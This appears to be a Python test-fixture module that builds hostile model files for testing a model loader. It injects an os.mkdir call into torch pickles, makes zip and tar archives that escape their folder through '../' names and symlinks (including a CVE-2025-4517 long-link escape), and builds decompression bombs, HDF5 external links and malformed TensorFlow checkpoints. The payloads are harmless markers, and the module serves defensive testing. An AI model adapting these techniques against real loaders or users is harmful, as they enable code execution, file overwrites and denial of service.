"""Hostile files of every family, one or two of each kind.

Each is a whole model in which one thing is hostile: a reader that does not mind it either succeeds,
or does what the file wants. What it wants is harmless: to create a marker (a path that the caller
chooses), to be read through a link, or to use a few gigabytes.
"""

from __future__ import annotations

import gzip
import io
import pickle
import stat
import tarfile
import zipfile
from pathlib import Path
from typing import Any

import h5py
import torch

from . import allennlp_archive, bilm_tf, manylangs, one_layer_hdf5, tensor_bundle
from .network import Weights, random_model
from .torch_files import pickle_length, state_dict_bytes, unicode_opcode

STEP = 1 << 24
STEPS = 96  # A bomb unpacks to 1.5 gigabytes.


# Pickles


def pickled(weights: Weights, marker: Path, *, legacy: bool) -> bytes:
    """A state dict; loading it without restrictions first calls os.mkdir for the marker."""
    call = b"cos\nmkdir\n" + unicode_opcode(str(marker)) + pickle.TUPLE1 + pickle.REDUCE
    content = state_dict_bytes(weights, legacy=legacy)
    if legacy:  # Into the fourth pickle: magic, protocol, system, object.
        start = 0
        for _ in range(3):
            start += pickle_length(content[start:])
        return content[: start + 2] + call + pickle.POP + content[start + 2 :]
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(file, "w") as target:
        for name in source.namelist():
            data = source.read(name)
            if name.endswith("/data.pkl"):
                data = data[:2] + call + pickle.POP + data[2:]
            target.writestr(name, data)
    return file.getvalue()


def pickled_manylangs(path: Path, marker: Path) -> Path:
    """An ELMoForManyLangs folder whose encoder is hostile."""
    architecture, weights, _ = random_model(manylangs)
    manylangs.write(path, architecture, weights)
    encoder = {k: v for k, v in weights.items() if k.startswith(manylangs.DIRECTIONS)}
    (path / "encoder.pkl").write_bytes(pickled(encoder, marker, legacy=True))
    return path


def pickled_allennlp(path: Path, marker: Path) -> Path:
    """An AllenNLP archive whose weights are hostile."""
    architecture, weights, _ = random_model(allennlp_archive)
    members = allennlp_archive.files(architecture, weights)
    state = allennlp_archive.state_dict(architecture, weights)
    members["weights.th"] = pickled(state, marker, legacy=False)
    path.write_bytes(allennlp_archive.tar_bytes(members))
    return path


def greedy_pickles() -> dict[str, bytes]:
    """State dicts for `weights.th` that declare more than they have, and execute nothing."""
    storage = b"(X\x07\0\0\0storagectorch\nFloatStorage\n"
    storage += b"X\x01\0\0\0aX\x03\0\0\0cpuJ\0\0\0\x70NtQ."
    files = {}
    for name, program in (
        ("storage", storage),
        ("bytes", b"cbuiltins\nbytearray\nJ\0\0\0\x70\x85R."),
    ):
        start = [pickle.dumps(x, 2) for x in (0x1950A86A20F9469CFC6C, 1001, {})]
        files[name] = b"".join([*start, b"\x80\x02" + program, pickle.dumps([], 2)])
    file = io.BytesIO()
    torch.save({"x": torch.ones(1).expand(1 << 40, 4)}, file)
    return files | {"expanded": file.getvalue()}


# Zips and tars


def zip_slip(path: Path, kind: str, marker: Path) -> Path:
    """A zip of ELMoForManyLangs with a member that leads out of the folder it is unpacked to.

    kind (str): "parent": to the marker's name in the parent of that folder. "link": a link to the
        marker, which holds the encoder.
    """
    members = manylangs.files(*random_model(manylangs)[:2])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        if kind == "link":
            marker.write_bytes(members.pop("encoder.pkl"))
            link = zipfile.ZipInfo("encoder.pkl")
            link.create_system = 3
            link.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(link, str(marker))
        else:
            archive.writestr(f"../{marker.name}", b"outside")
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def zip_bomb(path: Path) -> Path:
    """A zip of ELMoForManyLangs whose encoder has gigabytes, by its size as little as zlib says."""
    members = manylangs.files(*random_model(manylangs)[:2])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("encoder.pkl", "w") as file:
            for _ in range(STEPS):
                file.write(bytes(STEP))
        size = archive.getinfo("encoder.pkl").file_size
        del members["encoder.pkl"]
        for name, data in members.items():
            archive.writestr(name, data)
    # The directory lies about the size.
    data = path.read_bytes()
    path.write_bytes(data.replace(size.to_bytes(4, "little"), (1000).to_bytes(4, "little")))
    return path


def gzip_bomb(path: Path, prefix: bytes, rest: bytes = b"") -> Path:
    """A gzip file of the prefix, gigabytes of zeros and the rest: files of gzip may be joined."""
    path.write_bytes(gzip.compress(prefix) + gzip.compress(bytes(STEP)) * STEPS)
    with path.open("ab") as file:
        file.write(gzip.compress(rest))
    return path


def tar_bomb(path: Path) -> Path:
    """An AllenNLP archive with a header of gigabytes."""
    members = allennlp_archive.files(*random_model(allennlp_archive)[:2])
    rest = allennlp_archive.tar_bytes(members, "w:")
    member = tarfile.TarInfo("notes.txt")
    member.type, member.size = tarfile.XHDTYPE, STEP * STEPS
    return gzip_bomb(path, member.tobuf(), rest)


def tar(path: Path, kind: str, outside: Path) -> Path:
    """An AllenNLP archive with a member that leads out of its folder.

    kind (str): "link": `weights.th` is a link to `outside`, which holds the weights. "parent": a
        file of the name of `outside` in the parent of the folder of unpacking.
    """
    members = allennlp_archive.files(*random_model(allennlp_archive)[:2])
    special = tarfile.TarInfo("weights.th" if kind == "link" else f"../{outside.name}")
    if kind == "link":
        outside.write_bytes(members.pop("weights.th"))
        special.type, special.linkname = tarfile.SYMTYPE, str(outside)
    path.write_bytes(allennlp_archive.tar_bytes(members, first=special))
    return path


def tar_of_long_links(path: Path, outside: Path) -> Path:
    """An archive with links of so long a path that `tarfile` lost their end (CVE-2025-4517), and a
    file `new` behind the last of them, which leads to the folder `outside`."""
    steps, folder = "abcdefghijklmnop", ""
    with tarfile.open(path, "w") as archive:

        def add(name: str, kind: bytes, target: str = "") -> None:
            member = tarfile.TarInfo(name)
            member.type, member.linkname, member.mode = kind, target, 0o755
            archive.addfile(member)

        for step in steps:
            add(f"{folder}{'d' * 247}", tarfile.DIRTYPE)
            add(f"{folder}{step}", tarfile.SYMTYPE, "d" * 247)
            folder += f"{'d' * 247}/"
        top = f"{'/'.join(steps)}/{'l' * 254}"
        add(top, tarfile.SYMTYPE, "../" * len(steps))
        add("escape", tarfile.SYMTYPE, top + "/.." * 12 + str(outside))
        add("escape/new", tarfile.REGTYPE)
        member = tarfile.TarInfo("weights.hdf5")
        member.size = 200_000
        archive.addfile(member, io.BytesIO(bytes(200_000)))
    return path


# HDF5

HDF5 = ("external storage", "external link", "virtual", "huge", "strings", "cycle")


def hdf5(path: Path, kind: str, outside: Path) -> Path:
    """A folder of options.json and weights.hdf5 whose table of characters is hostile.

    outside (Path): The file that holds the table: raw bytes for "external storage", HDF5 for
        "external link" and "virtual". Not written for other kinds: "huge" (300 GB by its shape,
        which the options confirm, without any data), "strings", and "cycle" (a whole model, in
        which a group is its own child).
    RETURNS (Path): The file.
    """
    architecture, weights, _ = random_model(one_layer_hdf5, settings={"n_layers": 2})
    name, table = "char_embed", weights["char_embed"]
    if kind == "huge":
        architecture = architecture | {"char_dim": 300_000_000}
    file_path = one_layer_hdf5.write(path, architecture, weights)
    with h5py.File(file_path, "a") as file:
        if kind == "cycle":
            file["CNN/CNN"] = file["CNN"]
            return file_path
        del file[name]
        if kind == "external storage":
            outside.write_bytes(table.tobytes())
            external = [(str(outside), 0, table.nbytes)]
            file.create_dataset(name, table.shape, table.dtype, external=external)
        elif kind == "huge":
            shape = (len(table), architecture["char_dim"])
            file.create_dataset(name, shape, table.dtype, chunks=(1, 1 << 16))
        elif kind == "strings":
            file.create_dataset(name, table.shape, h5py.string_dtype())
        else:
            one_layer_hdf5.write_hdf5(outside, {name: table})
            layout = h5py.VirtualLayout(table.shape, table.dtype)
            layout[:] = h5py.VirtualSource(str(outside), name, table.shape)
            if kind == "virtual":
                file.create_virtual_dataset(name, layout)
            else:
                file[name] = h5py.ExternalLink(str(outside), name)
    return file_path


# Checkpoints

VICTIM = "lm/char_embed"
# Changes of the victim's entry, as `tensor_bundle.entry` takes them.
ENTRIES: dict[str, dict[str, Any]] = {
    "absurd size": {"size": 1 << 62},
    "negative shape": {"shape": (-261, -5)},
    "offset past the end": {"offset": 1 << 40},
    "strings": {"dtype": 7},
    "slices": {"slices": 2},
}
# What stands in the index in place of another value, by its key.
VALUES: dict[str, dict[str, bytes]] = {
    "endless varint": {VICTIM: b"\x08" + b"\xff" * 30},
    "wrong wire type": {VICTIM: b"\x0c"},
    "big-endian": {"": tensor_bundle.header(endianness=1)},
}
CHECKPOINTS = (*ENTRIES, *VALUES, "truncated", "compressed", "repeated block", "short data")


def checkpoint(path: Path, kind: str) -> Path:
    """A folder of a TensorFlow checkpoint in which one thing is wrong.

    RETURNS (Path): The prefix.
    """
    settings = {"characters": True, "n_layers": 2}
    architecture, weights, _ = random_model(bilm_tf, 6, settings)
    prefix = bilm_tf.write(path, architecture, weights)
    index, data = tensor_bundle.index_path(prefix), tensor_bundle.shard_path(prefix, 0, 1)
    tensors, content = bilm_tf.variables(weights), index.read_bytes()
    if kind in ENTRIES:
        table, names = tensors[VICTIM], sorted(tensors)
        offset = sum(tensors[name].nbytes for name in names[: names.index(VICTIM)])
        right: dict[str, Any] = {"shape": table.shape, "offset": offset, "size": table.nbytes}
        value = tensor_bundle.entry(**(right | ENTRIES[kind]))
        tensor_bundle.write(prefix, tensors, replaced={VICTIM: value})
    elif kind in VALUES:
        tensor_bundle.write(prefix, tensors, replaced=VALUES[kind])
    elif kind == "truncated":
        index.write_bytes(content[: len(content) // 2])
    elif kind == "compressed":
        index.write_bytes(tensor_bundle.table([(b"", b"x")], kind=tensor_bundle.SNAPPY))
    elif kind == "repeated block":
        index.write_bytes(tensor_bundle.table([(b"", b"x")], repeats=50_000))
    else:
        data.write_bytes(data.read_bytes()[:1000])
    return prefix
